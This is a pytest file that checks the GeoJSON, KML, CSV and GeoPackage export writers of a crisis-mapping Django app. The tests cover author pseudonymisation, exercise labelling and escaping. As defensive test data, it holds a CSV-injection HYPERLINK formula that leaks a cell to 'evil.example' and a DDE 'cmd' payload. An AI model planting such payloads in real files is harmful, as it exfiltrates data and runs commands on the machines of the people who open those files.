"""Export writers: every file parsed back with independent libraries (json + GEOS,
lxml + GDAL's KML driver, the csv module, GDAL's GeoPackage driver)."""

import csv
import html
import io
import itertools
import json
import shutil

import pytest
from django.contrib.gis.gdal import DataSource
from django.contrib.gis.geos import GEOSGeometry, Point
from lxml import etree

from activations.models import Activation
from mapping import exports as writers
from mapping.models import Incident, MapItem, Verification
from mapping.selectors.exports import export_incidents, export_items
from tests.mapping.exports_support import (
    BASE_TIME,
    HANDLE,
    HOSTILE,
    HOSTILE_CLEAN,
    POST_URL,
    make_incident,
    make_map_item,
)
from tests.verification.cases_support import open_case
from vost.pseudonyms import pseudonym

pytestmark = pytest.mark.django_db
KML = "{http://www.opengis.net/kml/2.2}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
needs_ogr2ogr = pytest.mark.skipif(
    shutil.which("ogr2ogr") is None, reason="GDAL's ogr2ogr is not installed"
)


@pytest.fixture
def data(activation):
    """Two verified items (one hostile), one not verified; three incidents, one dismissed."""
    first = make_incident(activation, 1)
    second = make_incident(activation, 2, footprint=None, status="proposed", title="")
    second.centroid = Point(3.9, 43.6, srid=4326)
    second.save()
    make_incident(activation, 3, status=Incident.Status.DISMISSED)
    case = open_case(activation)
    plain = make_map_item(
        activation, cluster=case.cluster, case=case, incident=first, radius_m=250
    )
    hostile = make_map_item(
        activation,
        lon=-1.55,
        lat=47.21,
        minutes=5,
        summary=HOSTILE,
        place_name=FORMULA,
        category="@SUM(1+1)",
        urgent=True,
    )
    make_map_item(activation, verification=Verification.UNVERIFIED, minutes=10)
    return {"plain": plain, "hostile": hostile, "case": case, "first": first}


def write(fmt, activation, tmp_path, *, pseudonymise=True, items=True, incidents=True):
    path = tmp_path / f"export.{writers.EXTENSIONS[fmt]}"
    calls = []
    writers.write_export(
        fmt,
        path,
        meta=writers.ExportMeta.of(activation, pseudonymise=pseudonymise),
        items=export_items(activation=activation) if items else None,
        incidents=export_incidents(activation=activation) if incidents else None,
        progress=calls.append,
    )
    return path, calls


def _signed_area(ring):
    return sum(x1 * y2 - x2 * y1 for (x1, y1), (x2, y2) in itertools.pairwise(ring))


def same_shape(a, b):
    """The same area to the written precision (6 decimals), whatever the ring order."""
    return a.sym_difference(b).area < 1e-9


def _exercise(activation):
    activation.kind = Activation.Kind.EXERCISE
    activation.save()
    return activation


# --- GeoJSON ------------------------------------------------------------------------------
def test_geojson_holds_verified_items_and_live_incidents(activation, data, tmp_path):
    # when
    path, calls = write("geojson", activation, tmp_path)
    # then
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["type"] == "FeatureCollection"
    assert doc["exercise"] is False
    assert doc["metadata"]["activation"] == activation.slug
    assert doc["metadata"]["authors_pseudonymised"] is True
    assert "crs" not in doc
    kinds = [(f["properties"]["kind"], f["id"]) for f in doc["features"]]
    assert kinds == [
        ("item", f"item-{data['plain'].pk}"),
        ("item", f"item-{data['hostile'].pk}"),
        ("incident", f"incident-{data['first'].pk}"),
        ("incident", f"incident-{Incident.objects.get(number=2).pk}"),
    ]
    assert calls == [4]
    plain, hostile, first, second = doc["features"]
    point = GEOSGeometry(json.dumps(plain["geometry"]))
    assert (point.geom_type, point.x, point.y) == ("Point", 3.88, 43.61)
    assert GEOSGeometry(json.dumps(hostile["geometry"])).coords == (-1.55, 47.21)
    assert plain["properties"] == {
        "kind": "item",
        "id": data["plain"].pk,
        "category": "infrastructure",
        "verification": "verified",
        "urgent": False,
        "platform": "mastodon",
        "observed_at": "2026-03-14T08:30:00Z",
        "summary": "Rue inondée au centre",
        "place_name": "Montpellier",
        "radius_m": 250,
        "author": pseudonym(HANDLE, activation_id=activation.pk, platform="mastodon"),
        "case_number": data["case"].number,
        "incident_number": 1,
        "exercise": False,
    }
    assert hostile["properties"]["summary"] == HOSTILE_CLEAN
    assert hostile["properties"]["place_name"] == FORMULA  # JSON is data, not a sheet
    assert first["properties"] == {
        "kind": "incident",
        "id": data["first"].pk,
        "number": 1,
        "title": "Inondation quartier Boutonnet",
        "category": "infrastructure",
        "status": "confirmed",
        "item_count": 2,
        "started_at": "2026-03-14T08:30:00Z",
        "ended_at": "2026-03-14T09:15:00Z",
        "exercise": False,
    }
    footprint = GEOSGeometry(json.dumps(first["geometry"]))
    assert same_shape(footprint, data["first"].footprint)
    # RFC 7946: exterior rings counterclockwise, even from a clockwise footprint
    assert _signed_area(first["geometry"]["coordinates"][0][0]) > 0
    assert second["geometry"] == {"type": "Point", "coordinates": [3.9, 43.6]}


def test_geojson_pseudonymised_has_no_handle_or_post_link(activation, data, tmp_path):
    # given the author's handle also appears in the summary
    MapItem.objects.filter(pk=data["plain"].pk).update(
        summary=f"Photo de {HANDLE} au centre"
    )
    # when
    path, _calls = write("geojson", activation, tmp_path)
    # then
    raw = path.read_bytes().lower()
    assert b"secret_witness" not in raw
    assert b"mastodon.example/@" not in raw
    label = pseudonym(HANDLE, activation_id=activation.pk, platform="mastodon")
    feature = json.loads(path.read_bytes())["features"][0]
    assert feature["properties"]["summary"] == f"Photo de {label} au centre"
    assert "post_url" not in feature["properties"]


def test_geojson_names_authors_when_asked(activation, data, tmp_path):
    path, _calls = write("geojson", activation, tmp_path, pseudonymise=False)
    props = json.loads(path.read_bytes())["features"][0]["properties"]
    assert props["author"] == HANDLE
    assert props["post_url"] == POST_URL
    assert json.loads(path.read_bytes())["metadata"]["authors_pseudonymised"] is False


def test_geojson_of_an_exercise_says_so_everywhere(activation, data, tmp_path):
    path, _calls = write("geojson", _exercise(activation), tmp_path)
    doc = json.loads(path.read_bytes())
    assert doc["exercise"] is True
    assert doc["metadata"]["exercise"] is True
    assert doc["name"].endswith("EXERCISE")
    assert {f["properties"]["exercise"] for f in doc["features"]} == {True}


def test_only_what_was_asked_for_is_written(activation, data, tmp_path):
    path, calls = write("geojson", activation, tmp_path, incidents=False)
    kinds = {f["properties"]["kind"] for f in json.loads(path.read_bytes())["features"]}
    assert kinds == {"item"}
    assert calls == [2]


def test_progress_is_reported_every_chunk(activation, monkeypatch, tmp_path):
    # given five verified items and chunks of two
    for minute in range(5):
        make_map_item(activation, minutes=minute)
    monkeypatch.setattr(writers.common, "CHUNK_SIZE", 2)
    # when
    for fmt in ("geojson", "kml", "csv"):
        _path, calls = write(fmt, activation, tmp_path)
        # then
        assert calls == [2, 4, 5], fmt


def test_nul_and_control_characters_become_replacement_characters(activation, tmp_path):
    # given an item from elsewhere than PostgreSQL (which refuses NUL)
    item = MapItem(
        pk=99,
        activation=activation,
        location=Point(3.88, 43.61, srid=4326),
        verification=Verification.VERIFIED,
        observed_at=BASE_TIME,
        summary="a\x00b\x0bc\ud800d\ufffee\tf\ng",
        author_handle="x",
        platform="mastodon",
    )
    meta = writers.ExportMeta.of(activation, pseudonymise=True)
    expected = "a\ufffdb\ufffdc\ufffdd\ufffde\tf\ng"
    for fmt in ("geojson", "kml", "csv"):
        path = tmp_path / f"nul.{fmt}"
        # when
        writers.write_export(
            fmt, path, meta=meta, items=[item], incidents=[], progress=lambda n: None
        )
        # then
        raw = path.read_bytes()
        assert b"\x00" not in raw
        if fmt == "geojson":
            assert json.loads(raw)["features"][0]["properties"]["summary"] == expected
        elif fmt == "kml":
            value = etree.fromstring(raw).find(
                f".//{KML}Data[@name='summary']/{KML}value"
            )
            assert value.text == expected
        else:
            rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
            assert rows[0]["summary"] == expected


# --- KML ----------------------------------------------------------------------------------
def _safe_parse(path):
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    return etree.parse(str(path), parser).getroot()


def test_kml_is_well_formed_and_hostile_text_stays_text(activation, data, tmp_path):
    # when
    path, calls = write("kml", activation, tmp_path)
    # then
    raw = path.read_bytes()
    assert b"<script" not in raw
    assert b"]]>" not in raw
    assert b"<![CDATA[" not in raw  # no CDATA section: the text is escaped
    root = _safe_parse(path)
    assert root.tag == f"{KML}kml"
    document = root.find(f"{KML}Document")
    assert document.findtext(f"{KML}name") == (f"VOST map export: {activation.title}")
    folders = {f.get("id"): f for f in document.findall(f"{KML}Folder")}
    assert list(folders) == ["items", "incidents"]
    assert [p.get("id") for p in folders["items"].findall(f"{KML}Placemark")] == [
        f"item-{data['plain'].pk}",
        f"item-{data['hostile'].pk}",
    ]
    assert len(folders["incidents"].findall(f"{KML}Placemark")) == 2
    assert calls == [4]
    hostile = folders["items"].findall(f"{KML}Placemark")[1]
    values = {
        d.get("name"): d.findtext(f"{KML}value") for d in hostile.iter(f"{KML}Data")
    }
    assert values["summary"] == HOSTILE_CLEAN
    assert values["author"] == pseudonym(
        HANDLE, activation_id=activation.pk, platform="mastodon"
    )
    assert values["urgent"] == "true"
    assert "post_url" not in values
    # KML viewers render <description> as HTML: it holds the text escaped for HTML
    description = hostile.findtext(f"{KML}description")
    assert "<script>" not in description
    assert html.unescape(description) == HOSTILE_CLEAN
    coords = hostile.findtext(f"{KML}Point/{KML}coordinates")
    assert coords == "-1.55,47.21"
    assert hostile.findtext(f"{KML}TimeStamp/{KML}when") == "2026-03-14T08:35:00Z"
    assert b"secret_witness" not in raw.lower()


def test_kml_read_by_gdal(activation, data, tmp_path):
    # given
    path, _calls = write("kml", activation, tmp_path)
    # when
    source = DataSource(str(path))
    # then
    layers = {layer.name: layer for layer in source}
    assert set(layers) == {"Verified items", "Incidents"}
    items = list(layers["Verified items"])
    assert len(items) == 2
    assert (items[1].geom.x, items[1].geom.y) == (-1.55, 47.21)
    assert items[1]["Name"].value == f"@SUM(1+1) - {FORMULA}"
    incidents = list(layers["Incidents"])
    assert len(incidents) == 2
    footprint = GEOSGeometry(incidents[0].geom.wkt, srid=4326)
    assert same_shape(footprint, data["first"].footprint)
    assert incidents[0]["Name"].value == "#1 Inondation quartier Boutonnet"


def test_kml_of_an_exercise_is_named_so(activation, data, tmp_path):
    path, _calls = write("kml", _exercise(activation), tmp_path)
    document = _safe_parse(path).find(f"{KML}Document")
    assert document.findtext(f"{KML}name").startswith("EXERCISE")
    exercise = document.findall(f".//{KML}Data[@name='exercise']/{KML}value")
    assert {v.text for v in exercise} == {"true"}
    assert len(exercise) == 5  # the document and four placemarks


# --- CSV ----------------------------------------------------------------------------------
def _csv_rows(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_formulas_and_keeps_coordinates(activation, data, tmp_path):
    # when
    path, calls = write("csv", activation, tmp_path)
    # then
    rows = _csv_rows(path)
    assert [r["kind"] for r in rows] == ["item", "item", "incident", "incident"]
    assert calls == [4]
    plain, hostile, first, second = rows
    assert "post_url" not in plain
    assert (plain["lon"], plain["lat"], plain["wkt"]) == (
        "3.88",
        "43.61",
        "POINT (3.88 43.61)",
    )
    assert plain["case_number"] == str(data["case"].number)
    assert plain["incident_number"] == "1"
    assert plain["exercise"] == "false"
    assert plain["author"] == pseudonym(
        HANDLE, activation_id=activation.pk, platform="mastodon"
    )
    assert hostile["place_name"] == "'" + FORMULA
    assert hostile["category"] == "'@SUM(1+1)"
    assert hostile["summary"] == HOSTILE_CLEAN
    assert (hostile["lon"], hostile["lat"]) == (
        "-1.55",
        "47.21",
    )  # numbers stay numbers
    assert hostile["urgent"] == "true"
    assert same_shape(GEOSGeometry(first["wkt"]), data["first"].footprint)
    centroid = data["first"].centroid
    assert float(first["lon"]) == pytest.approx(centroid.x, abs=1e-6)
    assert first["status"] == "confirmed"
    assert (second["lon"], second["lat"], second["wkt"]) == (
        "3.9",
        "43.6",
        "POINT (3.9 43.6)",
    )
    assert b"secret_witness" not in path.read_bytes().lower()


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "=cmd|' /C calc'!A0"]
)
def test_csv_cells_starting_a_formula_are_prefixed(text):
    assert writers.neutralise_formula(text) == "'" + text
    assert writers.neutralise_formula("Rue = inondée") == "Rue = inondée"


def test_csv_names_authors_when_asked_and_marks_exercises(activation, data, tmp_path):
    path, _calls = write("csv", _exercise(activation), tmp_path, pseudonymise=False)
    rows = _csv_rows(path)
    assert rows[0]["author"] == "'" + HANDLE  # starts with @: neutralised
    assert rows[0]["post_url"] == POST_URL
    assert {r["exercise"] for r in rows} == {"true"}


# --- GeoPackage ---------------------------------------------------------------------------
@needs_ogr2ogr
def test_geopackage_read_by_gdal(activation, data, tmp_path):
    # when
    path, calls = write("gpkg", _exercise(activation), tmp_path)
    # then
    assert calls == [4]
    source = DataSource(str(path))
    assert source.driver.name == "GPKG"
    layers = {layer.name: layer for layer in source}
    assert set(layers) == {"items", "incidents"}
    items = list(layers["items"])
    assert len(items) == 2
    assert (items[0].geom.x, items[0].geom.y) == (3.88, 43.61)
    assert items[1]["summary"].value == HOSTILE_CLEAN
    assert items[0]["author"].value == pseudonym(
        HANDLE, activation_id=activation.pk, platform="mastodon"
    )
    assert items[0]["case_number"].value == data["case"].number
    assert bool(items[0]["exercise"].value) is True
    assert "post_url" not in layers["items"].fields
    incidents = list(layers["incidents"])
    assert [f["number"].value for f in incidents] == [1, 2]
    footprint = GEOSGeometry(incidents[0].geom.wkt, srid=4326)
    assert same_shape(footprint, data["first"].footprint)
    assert incidents[1].geom.geom_type.name == "Point"
    assert b"secret_witness" not in path.read_bytes().lower()
    assert not list(tmp_path.glob(".gpkg-*"))  # the GeoJSON steps are gone


@needs_ogr2ogr
def test_geopackage_with_items_only_has_one_layer(activation, data, tmp_path):
    path, _calls = write("gpkg", activation, tmp_path, incidents=False)
    assert [layer.name for layer in DataSource(str(path))] == ["items"]


def test_geopackage_without_ogr2ogr_is_a_clear_error(activation, data, tmp_path):
    path = tmp_path / "export.gpkg"
    with pytest.raises(writers.ExportToolMissing, match="ogr2ogr"):
        writers.write_gpkg(
            path,
            meta=writers.ExportMeta.of(activation, pseudonymise=True),
            items=export_items(activation=activation),
            incidents=None,
            progress=lambda n: None,
            ogr2ogr="no-such-ogr2ogr",
        )
    assert list(tmp_path.iterdir()) == []
